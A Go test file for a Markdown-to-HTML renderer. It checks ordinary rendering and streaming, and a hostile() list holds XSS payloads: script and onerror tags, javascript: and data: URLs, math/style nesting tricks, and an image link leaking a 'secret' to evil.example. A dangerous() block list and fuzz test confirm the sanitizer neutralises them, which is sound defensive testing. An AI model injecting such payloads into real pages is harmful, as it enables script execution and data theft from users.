package render

import (
	"strings"
	"testing"
)

func TestHTML(t *testing.T) {
	r := New()
	for _, c := range []struct{ name, in, want string }{
		{"a paragraph", "Hello *there* and **you**", "<p>Hello <em>there</em> and <strong>you</strong></p>"},
		{"headings stand below the page's", "# One\n\n#### Four", "<h3>One</h3>\n<h6>Four</h6>"},
		{"a table", "| a | b |\n|---|--:|\n| 1 | 2<br>3 |", `<div class="table"><table>`},
		{"a table's alignment and breaks", "| a | b |\n|---|--:|\n| 1 | 2<br>3 |", `<td align="right">2<br/>3</td>`},
		{"tasks", "- [x] done\n- [ ] open", `<span class="task">☑ </span>`},
		{"strikethrough", "~~gone~~", "<del>gone</del>"},
		{"links are made", "see https://example.org/x now", `<a href="https://example.org/x" rel="nofollow noreferrer noopener" target="_blank">https://example.org/x</a>`},
		{"code has colours", "```go\nfunc main() {}\n```", `<figure class="code"><figcaption>go</figcaption><pre><code><span class="kd">func</span>`},
		{"code without a language", "```\na < b\n```", "<pre><code>a &lt; b\n</code></pre>"},
		{"numbered lists keep their start", "3. three", `<ol start="3">`},
		{"a formula", `so $x^2$ is`, "<math><mrow><msup><mi>x</mi><mn>2</mn></msup></mrow></math>"},
		{"a formula, the other way", `so \(a_1\) is`, "<msub><mi>a</mi><mn>1</mn></msub>"},
		{"a formula on its own", "\\[\na\n+ b\n\\]", `<div class="math"><math display="block"><mrow><mi>a</mi><mo>+</mo><mi>b</mi></mrow></math></div>`},
		{"money stays money", "from $5 to $6 and $7", "<p>from $5 to $6 and $7</p>"},
		{"an unknown formula is shown", `$\foo{x}$`, `<code>\foo{x}</code>`},
		{"a formula without an end", "$$ is what\n\nthey want", "<p>$$ is what</p>"},
		{"code is no formula", "`$x$`", "<code>$x$</code>"},
	} {
		if got := r.HTML(c.in); !strings.Contains(got, c.want) {
			t.Errorf("%s:\n%s\nhas no\n%s", c.name, got, c.want)
		}
	}
}

// hostile is what must come out as text, or not at all.
func hostile() []string {
	return []string{
		`<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `[x](javascript:alert(1))`, `[x](data:text/html,<script>alert(1)</script>)`,
		`![x](https://evil.example/?q=secret)`, `<a href="javascript:alert(1)">x</a>`, "```\"><script>alert(1)</script>\nx\n```",
		`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`, `$\text{<img src=x onerror=alert(1)>}$`, `$\operatorname{<script>}$`,
		`<svg/onload=alert(1)>`, `[x](//evil.example)`, `[x](/settings)`, "<style>*{display:none}</style>", `<iframe src="https://evil.example">`,
		"[x]: javascript:alert(1)\n\n[x]", `<java&#115;cript:alert(1)>`, "| <script>x</script> |\n|---|\n| <img src=x onerror=y> |",
		`[a](https://x" onmouseover="alert(1))`, "```go onload=x\nvar x = `</code><script>`\n```",
	}
}

func dangerous(out string) string {
	lower := strings.ToLower(out)
	for _, bad := range []string{"<script", "<img", "<svg", "<style", "<iframe", "<a href=\"javascript", "<a href=\"data", `href="/`, "<mglyph", "<form", "<input"} {
		if strings.Contains(lower, bad) {
			return bad
		}
	}
	for tag := range strings.SplitSeq(lower, "<") {
		inside, _, _ := strings.Cut(tag, ">")
		if strings.Contains(inside, " on") && !strings.Contains(inside, "&") && !strings.HasPrefix(inside, "a href=\"http") {
			return "<" + inside
		}
	}
	return ""
}

func TestNothingDangerousComesOut(t *testing.T) {
	r := New()
	for _, in := range hostile() {
		whole := r.HTML(in)
		if bad := dangerous(whole); bad != "" {
			t.Errorf("%q gives %s:\n%s", in, bad, whole)
		}
		s := r.Stream()
		s.Add(in)
		if bad := dangerous(s.Open()); bad != "" {
			t.Errorf("%q, open, gives %s", in, bad)
		}
	}
}

func TestHugeIsShownAsItIs(t *testing.T) {
	if got := New().HTML("*<" + strings.Repeat("x", MaxSource)); !strings.HasPrefix(got, "<pre>*&lt;xxx") {
		t.Errorf("%.40s", got)
	}
}

const story = "# Title\n\nOne *para*\ngraph.\n\n1. first\n\n   more\n\n2. second\n\nAfter.\n\n```go\nfunc f() {\n\n}\n```\n| a | b |\n|---|---|\n| 1 | 2 |\n\n\\[\na\n\n= b\n\\]\n\nEnd without a line"

// What is closed does not change, and with what is open it is all there.
func TestStream(t *testing.T) {
	r := New()
	s := r.Stream()
	var before []string
	for i := range len(story) {
		s.Add(story[i : i+1])
		closed := s.Closed()
		for j, b := range before {
			if closed[j] != b {
				t.Fatalf("block %d changed", j)
			}
		}
		before = append(before[:0], closed...)
	}
	if s.Text() != story {
		t.Error("text was lost")
	}
	got := strings.Join(s.Closed(), "") + s.Open()
	if want := r.HTML(story); got != want {
		t.Errorf("in pieces:\n%s\nat once:\n%s", got, want)
	}
	if len(s.Closed()) < 5 {
		t.Errorf("%d blocks were closed", len(s.Closed()))
	}
}

func TestStreamIsBounded(t *testing.T) {
	s := New().Stream()
	for range 2000 {
		s.Add("A sentence of an answer that is quite long.\n\n")
	}
	if open := s.Open(); len(s.Closed()) != 1999 || len(open) > 100 {
		t.Errorf("%d closed, %d bytes open", len(s.Closed()), len(open))
	}
}

func FuzzHTML(f *testing.F) {
	for _, s := range append(hostile(), story) {
		f.Add(s)
	}
	r := New()
	f.Fuzz(func(t *testing.T, in string) {
		if len(in) > 4096 {
			return
		}
		if bad := dangerous(r.HTML(in)); bad != "" {
			t.Errorf("%q gives %s", in, bad)
		}
		s := r.Stream()
		s.Add(in[:len(in)/2])
		_ = s.Open()
		s.Add(in[len(in)/2:])
		if bad := dangerous(strings.Join(s.Closed(), "") + s.Open()); bad != "" || s.Text() != in {
			t.Errorf("%q in pieces gives %s", in, bad)
		}
	})
}

func BenchmarkOpenBlock(b *testing.B) {
	s := New().Stream()
	s.Add(strings.Repeat("A sentence of an answer. ", 80))
	for b.Loop() {
		s.Open()
	}
}
